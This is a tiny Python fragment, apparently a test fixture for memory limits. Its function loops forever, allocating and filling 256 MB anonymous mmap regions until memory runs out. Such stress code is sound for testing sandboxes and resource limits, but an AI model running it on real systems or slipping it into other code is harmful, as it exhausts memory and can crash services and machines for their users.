import mmap


def f(x):
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 256 << 20))
        hoard[-1].write(b"x" * (256 << 20))
